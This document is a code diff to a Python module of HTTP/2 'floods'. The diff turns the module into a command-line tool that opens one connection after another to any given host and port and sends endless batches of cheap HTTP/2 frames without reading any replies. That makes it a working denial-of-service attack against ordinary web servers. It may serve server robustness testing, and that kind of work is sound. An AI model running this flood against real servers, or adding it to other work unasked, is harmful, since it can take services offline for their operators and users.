@@ -1,8 +1,15 @@
-"""Floods: frames that cost whoever sends them little, without end."""
+"""Floods: frames that cost whoever sends them little, without end. As a program, one of them on one connection after the other:
 
+    floods.py NAME HOST:PORT SECONDS
+"""
+
+import itertools
+import socket
 import struct
+import sys
+import time
 
-from frames import literal
+from frames import PREFACE, literal
 from frames import request as fields
 from hpack import Encoder
 from hyperframe.frame import (
@@ -138,3 +145,28 @@ FLOODS = [
 
 def serialized(frame):
     return frame if isinstance(frame, bytes) else frame.serialize()
+
+
+def send(frames, address, seconds):
+    """Floods a server and reads nothing; answers with how many connections and frames that took."""
+    host, _, port = address.rpartition(":")
+    connections, sent, deadline = 0, 0, time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        made = frames(itertools.count(1, 2))
+        with socket.create_connection((host, int(port)), timeout=0.2) as connection:
+            connections += 1
+            try:
+                connection.sendall(PREFACE + SettingsFrame(0).serialize())
+                while time.monotonic() < deadline:
+                    part = [serialized(frame) for frame in itertools.islice(made, 500)]
+                    connection.sendall(b"".join(part))
+                    sent += len(part)
+            except (TimeoutError, ConnectionError):
+                # It reads no more, or has hung up.
+                continue
+    return connections, sent
+
+
+if __name__ == "__main__":
+    name, address, seconds = sys.argv[1:]
+    print(*send(globals()[name], address, float(seconds)))
